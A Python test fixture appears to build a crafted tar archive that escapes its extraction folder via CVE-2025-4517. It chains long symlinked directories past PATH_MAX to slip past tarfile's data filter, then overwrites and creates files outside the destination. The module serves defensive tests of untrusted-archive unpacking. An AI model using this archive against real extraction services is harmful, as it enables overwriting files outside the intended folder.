"""Archives made to get out of the folder they are unpacked into: shared by the tests of
every place the host unpacks a tar it did not make (a run's artifacts, a seed, an upload)."""

from __future__ import annotations

import io
import os
import tarfile
from pathlib import Path


def escaping_tar(dest: Path) -> bytes:
    """The tar that walks out of ``dest`` past tarfile's ``data`` filter on Pythons before
    3.11.13 / 3.12.11 (CVE-2025-4517): folders whose path, through one-letter symlinks, is
    longer than PATH_MAX, where ``os.path.realpath`` stops resolving; then a hard link to a
    file beside ``dest``, overwritten through it."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:

        def add(name: str, kind: bytes = tarfile.REGTYPE, link: str = "", data: bytes | None = None) -> None:
            info = tarfile.TarInfo(name)
            info.type, info.linkname, info.mode = kind, link, 0o777 if kind == tarfile.DIRTYPE else 0o644
            if data is not None:
                info.size = len(data)
            tar.addfile(info, io.BytesIO(data) if data is not None else None)

        steps = "abcdefghijklmnop"
        component = "d" * ((4096 - (len(str(dest)) + 1)) // (len(steps) + 1))
        path = ""
        for step in steps:
            add(os.path.join(path, component), tarfile.DIRTYPE)
            add(os.path.join(path, step), tarfile.SYMTYPE, component)
            path = os.path.join(path, component)
        climb = os.path.join(*steps, "l" * 254)
        add(climb, tarfile.SYMTYPE, os.path.join(*[".."] * len(steps)))
        add("escape", tarfile.SYMTYPE, os.path.join(climb, ".."))
        add("flaglink", tarfile.LNKTYPE, "escape/outside/flag")
        add("flaglink", data=b"overwritten by the service\n")
        add("escape/outside/newfile", data=b"written by the service\n")
    return buffer.getvalue()
